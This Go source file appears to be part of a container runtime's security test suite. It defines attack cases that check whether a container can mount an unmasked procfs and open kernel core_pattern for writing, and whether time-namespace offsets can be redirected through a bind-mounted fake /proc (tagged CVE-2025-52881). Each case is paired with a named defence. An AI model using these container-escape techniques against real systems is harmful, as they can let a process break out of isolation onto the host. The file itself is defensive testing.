package main

import (
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"github.com/rtcontainers/rt/internal/defence"
)

const minute = time.Minute

var procAttacks = []attack{
	{
		name:     "no-pivot-proc",
		about:    "with --no-pivot, a process with its own user namespace mounts a procfs without masks",
		kinds:    []string{"13.11"},
		defences: []defence.Name{defence.HostProc},
		mount: func(t *try) string {
			b := t.attacker("own-proc", "sys/kernel/core_pattern")
			return tell(b.run("--no-pivot"), gained, "core_pattern could be opened for writing")
		},
	},
	{
		name:     "time-offsets-redirected",
		about:    "the offsets of a time namespace are written to a file that another container has put in the place of /proc/self/timens_offsets",
		kinds:    []string{"13.9", "CVE-2025-52881"},
		defences: []defence.Name{defence.OwnProcfs},
		mount: func(t *try) string {
			fake := filepath.Dir(filepath.Dir(t.write(t.host("fake", "self", "timens_offsets"), "")))
			b := t.script("true")
			b.spec.Version = "1.1.0"
			b.namespace(specs.MountNamespace, t.otherMounts("mount --bind "+fake+" /proc"))
			b.namespace(specs.TimeNamespace, "")
			b.spec.Linux.TimeOffsets = map[string]specs.LinuxTimeOffset{"boottime": {Secs: 1000}}
			b.run()
			if text := read(t.host("fake", "self", "timens_offsets")); text != "" {
				return "written to the file of the other container: " + text
			}
			return ""
		},
	},
}

// otherMounts starts a process in a mount namespace of another container's, changes
// that by commands, and returns its path.
func (t *try) otherMounts(commands string) string {
	ready := t.host("ready")
	cmd := exec.Command("unshare", "-m", "sh", "-ec", "mount --make-rprivate /; "+commands+"; echo > "+ready+"; exec sleep 1000")
	var trouble strings.Builder
	cmd.Stderr = &trouble
	t.must(cmd.Start())
	if !eventually(func() bool { return fileExists(ready) }) {
		t.fail("other mount namespace: %s", trouble.String())
	}
	return "/proc/" + strconv.Itoa(cmd.Process.Pid) + "/ns/mnt"
}
